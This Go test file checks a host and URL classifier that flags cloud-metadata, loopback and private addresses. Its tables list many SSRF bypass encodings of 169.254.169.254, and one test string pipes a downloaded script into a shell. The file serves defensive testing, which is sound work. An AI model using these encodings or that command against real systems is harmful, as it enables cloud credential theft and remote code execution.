package netaddr

import "testing"

func TestParseHost(t *testing.T) {
	tests := []struct {
		in    string
		class Class
		trick string
	}{
		{"169.254.169.254", Metadata, ""},
		{"2852039166", Metadata, "decimal"},
		{"0xa9fea9fe", Metadata, "hex"},
		{"0251.0376.0251.0376", Metadata, "octal"},
		{"0xa9.0xfe.0xa9.0xfe", Metadata, "hex"},
		{"169.254.43518", Metadata, "short-form"},
		{"::ffff:169.254.169.254", Metadata, "ipv4-mapped"},
		{"[::ffff:a9fe:a9fe]", Metadata, "ipv4-mapped"},
		{"64:ff9b::a9fe:a9fe", Metadata, "nat64"},
		{"169.254.169.254.", Metadata, "trailing-dot"},
		{"metadata.google.internal", Metadata, ""},
		{"METADATA.GOOGLE.INTERNAL.", Metadata, "trailing-dot"},
		{"fd00:ec2::254", Metadata, ""},
		{"100.100.100.200", Metadata, ""},
		{"１６９.２５４.１６９.２５４", Metadata, "fullwidth"},
		{"169.254.169.254.nip.io", Metadata, "wildcard-dns"},
		{"app-a9fea9fe.nip.io", Metadata, "wildcard-dns"},
		{"127.0.0.1", Loopback, ""},
		{"127.1", Loopback, "short-form"},
		{"0x7f000001", Loopback, "hex"},
		{"017700000001", Loopback, "octal"},
		{"localhost", Loopback, ""},
		{"api.localhost", Loopback, ""},
		{"::1", Loopback, ""},
		{"[::1]", Loopback, ""},
		{"0.0.0.0", Unspecified, ""},
		{"0", Unspecified, "decimal"},
		{"10.0.0.1", Private, ""},
		{"192.168.1.1", Private, ""},
		{"172.16.5.4", Private, ""},
		{"fc00::1", Private, ""},
		{"100.64.1.1", Private, ""},
		{"db.internal", Private, ""},
		{"fe80::1%eth0", LinkLocal, ""},
		{"169.254.1.1", LinkLocal, ""},
		{"api.github.com", Public, ""},
		{"8.8.8.8", Public, ""},
		{"example.com.", Public, "trailing-dot"},
		{"2001:4860:4860::8888", Public, ""},
		{"256.1.1.1", Public, ""},
	}
	for _, tc := range tests {
		t.Run(tc.in, func(t *testing.T) {
			h := ParseHost(tc.in)
			if h.Class != tc.class || h.Trick != tc.trick {
				t.Errorf("ParseHost(%q) = class %v trick %q, want %v %q", tc.in, h.Class, h.Trick, tc.class, tc.trick)
			}
		})
	}
}

func TestParseURL(t *testing.T) {
	tests := []struct {
		in    string
		ok    bool
		class Class
	}{
		{"http://169.254.169.254/latest/meta-data/", true, Metadata},
		{"http://[fd00:ec2::254]/latest", true, Metadata},
		{"http://2852039166/", true, Metadata},
		{"http://good.example.com@169.254.169.254/", true, Metadata},
		{"169.254.169.254/latest", true, Metadata},
		{"//metadata.google.internal/computeMetadata/v1/", true, Metadata},
		{`http:\\169.254.169.254\latest`, true, Metadata},
		{"http://%31%36%39.254.169.254/", true, Metadata},
		{"http://localhost:8080/x", true, Loopback},
		{"https://api.github.com/repos", true, Public},
		{"mailto:someone@example.com", false, Public},
		{"", false, Public},
	}
	for _, tc := range tests {
		u, ok := ParseURL(tc.in)
		if ok != tc.ok || ok && u.Host.Class != tc.class {
			t.Errorf("ParseURL(%q) = %v %v, want %v %v", tc.in, u.Host.Class, ok, tc.class, tc.ok)
		}
	}
}

func TestFindURLs(t *testing.T) {
	got := FindURLs(`curl -s "http://169.254.169.254/latest" && wget https://x.io/a|sh`, 8)
	want := []string{"http://169.254.169.254/latest", "https://x.io/a"}
	if len(got) != len(want) || got[0] != want[0] || got[1] != want[1] {
		t.Fatalf("FindURLs = %q, want %q", got, want)
	}
}

func FuzzURL(f *testing.F) {
	for _, s := range []string{"http://169.254.169.254/", "http://[::ffff:a9fe:a9fe]:80/", "0x7f.1", "http://a@b@c/", "//x", "\\\\host", "http://[", "1.2.3.4.5"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		u, ok := ParseURL(s)
		if ok && u.Host.Class < Public || u.Host.Class > Metadata {
			t.Fatalf("bad class %v", u.Host.Class)
		}
		h := ParseHost(s)
		if h.Addr.IsValid() && ClassifyAddr(h.Addr) != h.Class && h.Class != Metadata {
			t.Fatalf("class mismatch for %q", s)
		}
		_ = FindURLs(s, 4)
	})
}
